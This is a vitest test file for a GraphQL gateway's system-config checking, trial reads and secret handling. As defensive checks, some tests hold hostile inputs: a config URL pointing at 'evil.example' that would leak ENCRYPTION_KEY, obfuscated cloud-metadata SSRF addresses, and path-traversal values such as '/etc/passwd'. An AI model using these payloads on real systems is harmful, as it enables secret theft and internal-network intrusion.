import { readAudit } from '@atrium/platform/audit'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { type Answer, startTestCompany, type TestCompany, type TestGateway } from './publishing.fixture.ts'

let company: TestCompany
let one: TestGateway
let two: TestGateway
beforeAll(async () => {
  company = await startTestCompany()
  one = await company.gateway()
  two = await company.gateway()
}, 60_000)
afterAll(() => company?.stop())

const check = async (yaml: string, id = 'shop'): Promise<Answer['data']> => {
  const text = /* GraphQL */ `
    mutation ($id: ID!, $yaml: String!) {
      checkSystem(id: $id, yaml: $yaml) {
        publishable
        faults { level message path line column }
        description { fresh operations { name safe types } }
        mapped { type operation key filters fields { field path class overridden } }
        difference { breaking changes { kind place breaking before after text } }
      }
    }
  `
  const answer = await one.ask('admin', text, { id, yaml })
  if (answer.errors) throw new Error(answer.errors[0]?.message)
  return answer.data.checkSystem
}

describe('checking a text', () => {
  test('says what the system offers, what is mapped, and what would be other', async () => {
    const yaml = company.shopYaml(
      ['    operation: list', '    operation: list\n    fields: { name: title }'],
      ['ids: { field: ids, reads: [id] }, ', ''],
      ['timeoutMs: 25000', 'timeoutMs: 900'],
    )
    const checked = await check(yaml)
    expect(checked).toMatchObject({ publishable: true, faults: [], difference: { breaking: true } })
    expect(checked.description).toEqual({
      fresh: true,
      operations: [
        { name: 'list', safe: true, types: ['Item'] },
        { name: 'others', safe: true, types: [] },
      ],
    })
    expect(checked.mapped).toHaveLength(1)
    expect(checked.mapped[0]).toMatchObject({ type: 'Item', operation: 'list', key: 'id', filters: ['id', 'owner'] })
    expect(checked.mapped[0].fields).toContainEqual({
      field: 'name',
      path: 'title',
      class: 'INTERNAL',
      overridden: true,
    })
    expect(checked.difference.changes).toEqual([
      expect.objectContaining({ kind: 'REMOVED', place: 'shop.Item(ids)', breaking: true }),
      expect.objectContaining({ kind: 'CHANGED', place: 'shop.Item.name', breaking: false, after: '"title"' }),
      expect.objectContaining({ place: 'shop.limits.timeoutMs', before: '25000', after: '900' }),
    ])
    expect((await one.ask('admin', '{ publishing { revision latest } }')).data.publishing).toEqual({
      revision: 0,
      latest: 0,
    })
  })

  test('is recorded when somebody asks for it, and whenever the text is another than the one that runs', async () => {
    const count = async (): Promise<number> =>
      (await readAudit(company.db, { limit: 200 })).filter(row => row.action === 'system.checked').length
    const look =
      'mutation ($yaml: String!, $asked: Boolean) { checkSystem(id: "shop", yaml: $yaml, asked: $asked) { publishable } }'
    const before = await count()
    const running = (await one.ask('admin', '{ systemSource(id: "shop") { yaml } }')).data.systemSource.yaml
    const other = company.shopYaml(['operation: list', 'operation: list\n    max: 7'])
    for (const [yaml, asked, recorded] of [
      [running, false, 0],
      [running, true, 1],
      [other, false, 2],
    ] as const) {
      expect((await one.ask('admin', look, { yaml, asked })).data.checkSystem.publishable).toBe(true)
      expect((await count()) - before, JSON.stringify(asked)).toBe(recorded)
    }
  })

  test('names each fault with its line and column', async () => {
    const cases: [string, string, RegExp, number][] = [
      ['entities:', 'entities: {{', /./, 10],
      ['protocol: openapi', 'protocol: carrier-pigeon', /Invalid option/, 3],
      ['url: ', 'adress: x\nurl: ', /adress/, 0],
      ['operation: list', 'operation: lits', /lits/, 9],
      ['rows: items', 'rows: things', /things|items/, 0],
      ['owner: { field: owner, reads: [] }', 'owner: { field: owner, reads: [boss] }', /boss/, 13],
      ['scope: { filter: owner', 'scope: { filter: owned', /owned/, 0],
      ['  Item:', '  Itme:', /Itme/, 9],
    ]
    for (const [from, to, message, line] of cases) {
      const yaml = company.shopYaml([from, to])
      const { publishable, faults } = await check(yaml)
      expect(publishable, to).toBe(false)
      expect(faults[0].message, to).toMatch(message)
      if (line > 0) expect(faults[0], to).toMatchObject({ line, column: expect.any(Number) })
    }
  })

  test('reads no environment variable that systems.yaml does not use for this system', async () => {
    process.env.ENCRYPTION_KEY = 'the-key-of-everything'
    const exfiltrate = company.shopYaml([`url: \${TEST_SHOP_URL}`, `url: "https://evil.example/\${ENCRYPTION_KEY}"`])
    const checked = await check(exfiltrate)
    expect(checked.publishable).toBe(false)
    expect(checked.faults[0]).toMatchObject({ path: 'url', line: 2 })
    expect(checked.faults[0].message).toContain('ENCRYPTION_KEY may not be read here')
    expect(JSON.stringify(checked)).not.toContain('the-key-of-everything')
    // Not by default value, nested, of another system, or in a key of the settings either.
    for (const text of [`\${ENCRYPTION_KEY}`, `\${DATABASE_URL}`, `\${PATH}`])
      expect((await check(company.shopYaml(['value: first', `value: "${text}"`]))).publishable, text).toBe(false)
    expect((await check(company.shopYaml(), 'store')).faults[0].message).toContain('TEST_SHOP_URL may not be read')
    expect((await check(company.shopYaml())).publishable).toBe(true)
  })

  test('lets no system stand at a link-local address or in the files of the machine', async () => {
    const hosts = [
      '169.254.169.254',
      '2852039166',
      '0xa9fea9fe',
      '[fe80::1]',
      '[::ffff:169.254.169.254]',
      '[64:ff9b::a9fe:a9fe]',
      '100.100.100.200',
      'metadata.google.internal',
    ]
    for (const host of hosts) {
      const { publishable, faults } = await check(
        company.shopYaml([`endpoint: \${TEST_SHOP_URL}`, `endpoint: "http://${host}/latest"`]),
      )
      expect(publishable, host).toBe(false)
      expect(faults[0].message).toContain('link-local')
      expect(faults[0]).toMatchObject({ path: 'endpoint', line: 5 })
    }
    for (const file of ['/etc/passwd', '../secrets.graphql', 'a/../../b.graphql'])
      expect((await check(company.shopYaml(['dictionary: shop.graphql', `dictionary: ${file}`]))).publishable).toBe(
        false,
      )
    const files = company.shopYaml([
      'authentication:',
      'files: { directory: /etc, tables: { hosts: { files: "*.csv" } } }\nauthentication:',
    ])
    expect((await check(files)).faults[0].message).toContain('CONFIG_DIR')
  })
})

describe('trying a text', () => {
  const attempt = /* GraphQL */ `
    mutation ($yaml: String!, $first: Int) {
      trySystem(id: "shop", yaml: $yaml, type: "Item", first: $first) {
        error total columns { field decision } rows { key cells } faults { field reason }
      }
    }
  `
  const tried = async (yaml: string) => (await one.ask('admin', attempt, { yaml })).data.trySystem

  test('shows live records through it, with the rights, masks and row scope of who tries', async () => {
    const trial = await tried(
      company.shopYaml(['    operation: list', '    operation: list\n    fields: { name: title }']),
    )
    expect(trial).toMatchObject({ error: null, faults: [] })
    expect(trial.columns).toEqual([
      { field: 'id', decision: 'READABLE' },
      { field: 'name', decision: 'READABLE' },
      { field: 'phone', decision: 'MASKED' },
      { field: 'salary', decision: 'DENIED' },
    ])
    // The administrator's scope is their own records: those of others are not asked for.
    expect(trial.rows).toEqual([{ key: 'shop-1', cells: ['shop-1', 'title 1', '138****5678', null] }])
    expect((await readAudit(company.db, { limit: 1 }))[0]).toMatchObject({ action: 'system.tried' })
  })

  test('opens nothing that the running dictionary closes', async () => {
    const wide =
      'dictionary: |\n  type Item @entity(key: "id", system: "shop") @read(roles: ["*"]) { id: ID! @from(system: "shop", path: "id") phone: String @from(system: "shop", path: "phone") salary: String @from(system: "shop", path: "salary") }\n  extend type Query { items(first: Int): ItemConnection @list }'
    const trial = await tried(company.shopYaml(['dictionary: shop.graphql', wide]))
    expect(trial.columns).toEqual([
      { field: 'id', decision: 'READABLE' },
      { field: 'phone', decision: 'DENIED' },
      { field: 'salary', decision: 'DENIED' },
    ])
    expect(JSON.stringify(trial.rows)).not.toMatch(/9000|13812345678/)
  })

  test('says in words why nothing came', async () => {
    const trial = await tried(company.shopYaml(['value: first', 'value: wrong']))
    expect(trial).toMatchObject({ rows: null })
    expect(trial.error).toMatch(/does not accept/)
  })
})

describe('secrets of systems', () => {
  const set = (name: string, value: string) =>
    one.ask(
      'admin',
      'mutation ($name: String!, $value: String!) { setSystemSecret(system: "shop", name: $name, value: $value) { name setBy named } }',
      { name, value },
    )
  const withSecret = () => company.shopYaml(['value: first', `value: "\${secret:KEY}"`])
  const names = async (gateway: TestGateway) =>
    (await gateway.ask('boss', '{ items(first: 5) { nodes { id } } }')).data.items?.nodes.length ?? null

  test('are missed until they are set, and may stand in nothing that is shown', async () => {
    const missed = await check(withSecret())
    expect(missed.faults[0]).toMatchObject({
      message: 'the secret KEY is not set',
      path: 'authentication.value',
      line: 6,
    })
    const shown = await check(company.shopYaml([`url: \${TEST_SHOP_URL}`, `url: "http://x/\${secret:KEY}"`]))
    expect(shown.faults[0].message).toContain('which is shown')
  })

  test('are sealed, never told again, recorded, and rotated on every gateway while it runs', async () => {
    expect((await set('KEY', 'first')).data.setSystemSecret).toEqual({ name: 'KEY', setBy: '甲admin', named: false })
    const published = await one.ask(
      'admin',
      'mutation ($yaml: String!) { publishSystem(id: "shop", yaml: $yaml, comment: "a secret", expectedRevision: 0) { outcome faults { message } } }',
      { yaml: withSecret() },
    )
    expect(published.data.publishSystem).toEqual({ outcome: 'PUBLISHED', faults: [] })
    expect(await names(one)).toBe(2)
    await vi.waitFor(async () => {
      expect((await two.ask('admin', '{ publishing { revision } }')).data.publishing.revision).toBe(1)
    }, 10_000)

    const sent = (): unknown =>
      company.shop.requests.filter(seen => seen.path.includes('/items')).at(-1)?.headers['x-key']
    expect((await set('KEY', 'second')).data.setSystemSecret.named).toBe(true)
    for (const gateway of [one, two])
      await vi.waitFor(async () => {
        expect(await names(gateway)).toBe(2)
        expect(sent()).toBe('second')
      }, 15_000)

    const rows = await company.db.selectFrom('system_secret').selectAll().execute()
    expect(rows).toHaveLength(1)
    expect(rows[0]?.sealed).toMatch(/^v1\./)
    const everything = JSON.stringify([
      rows,
      await readAudit(company.db, { limit: 50 }),
      (
        await one.ask(
          'admin',
          '{ systemSource(id: "shop") { yaml secrets { name setBy named } } systemRevisions { changes { after } } }',
        )
      ).data,
      await check(withSecret().replace('secret:KEY', 'secret:KEY}x${secret:NONE')),
    ])
    expect(everything).toContain('secret:KEY')
    expect(everything).not.toMatch(/"second"|second\b/)
    expect((await readAudit(company.db, { limit: 50 })).filter(row => row.action === 'system.secretSet')).toHaveLength(
      2,
    )
    const forget = 'mutation { removeSystemSecret(system: "shop", name: "KEY") }'
    expect((await one.ask('admin', forget)).errors?.[0]?.message).toContain('names the secret')
  })
})
